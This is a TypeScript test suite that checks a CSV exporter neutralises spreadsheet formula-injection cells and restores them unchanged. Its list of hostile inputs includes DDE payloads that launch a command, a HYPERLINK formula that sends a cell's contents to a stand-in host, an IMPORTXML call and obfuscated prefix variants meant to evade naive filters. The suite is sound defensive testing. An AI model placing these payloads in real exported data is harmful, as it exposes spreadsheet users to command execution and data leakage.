// What leaves as CSV is computed by no spreadsheet program, and comes back as it was.
import * as fc from 'fast-check';
import { inert, revived } from './formula';

/** As programs read a cell, written down apart from the rule: what they pass over in front, then one of these signs. */
const PASSED = new Set([...' \t\r\n\u00a0\u3000\ufeff\u200b\u200c\u200d\u2060\u00ad\0\u0001\u001f"“”„«‘’＇＂`´']);
const SIGNS = new Set([...'=+-@＝＋－＠']);
/** `'` is no sign of any program's that it would pass over, and ends the matter. */
function computes(cell: string): boolean {
  if (/^-\d+(\.\d+)?$/.test(cell)) return false;
  if (/^[\t\r\n]/.test(cell)) return true;
  const signs = [...cell];
  const at = signs.findIndex((sign) => !PASSED.has(sign));
  return at >= 0 && SIGNS.has(signs[at] ?? '');
}
/** Also as one that divides cells and lines otherwise than we do. */
const anyComputes = (cell: string): boolean => computes(cell) || cell.split(/[;\t\r\n]/).some(computes);

const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000＝1+1',
  '＋1',
  '－2+3',
  '＠SUM(A1)',
  '"=1+1',
  '“=1+1”',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u200b\u2060 \u00a0@A1',
  '=HYPERLINK("http://x.test?"&A1,"报修")',
  '=IMPORTXML("http://x.test","//a")',
  "=DDE('cmd','/C calc','x')",
  'a;=1+1;b',
  'x\t=1+1',
  'x\n=1+1',
  'x\r\n+1',
  '-12.5+1',
  '--1',
  '-',
  '+',
  '\t',
];
const PLAIN = [
  '',
  '漏水',
  'a=b',
  '3-5',
  '-5',
  '-12.50',
  '138****1234',
  '021-55550000',
  'x@y.cn',
  "'",
  "it's",
  '(=1)',
  '12;3',
];

const signs = fc.constantFrom(...PASSED, ...SIGNS, "'", ';', '1', 'a', '漏', ',', '\ud83d\ude00', '.', '−');
const hostile = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.array(signs, { maxLength: 8 }).map((all) => all.join('')),
);

test.each(HOSTILE)('%j is computed by nobody, and comes back', (text) => {
  expect(anyComputes(text)).toBe(true);
  expect(anyComputes(inert(text))).toBe(false);
  expect(revived(inert(text))).toBe(text);
});

test.each(PLAIN)('%j stays as it is', (text) => {
  expect(inert(text)).toBe(text);
  expect(revived(text)).toBe(text);
});

test.each(['+86 138 0013 8000', '+8613800138000', '+86-138-0013-8000'])(
  '%s can be read, and is not computed',
  (phone) => {
    expect(inert(phone)).toBe(`'${phone}`);
    expect(revived(inert(phone))).toBe(phone);
  },
);

test('whatever is in front of what, however it is divided: nothing computes, nothing is lost, no two become one', () => {
  fc.assert(
    fc.property(hostile, hostile, (one, other) => {
      const text = one + other;
      expect(anyComputes(inert(text))).toBe(false);
      expect(revived(inert(text))).toBe(text);
    }),
    { numRuns: 2000 },
  );
});

test('the check would find it: as it was, and with a rule that looks at the first sign only', () => {
  const naive = (text: string) => (/^[=+\-@]/.test(text) ? `'${text}` : text);
  expect(HOSTILE.filter((text) => anyComputes(text))).toEqual(HOSTILE);
  expect(HOSTILE.filter((text) => anyComputes(naive(text))).length).toBeGreaterThan(10);
});
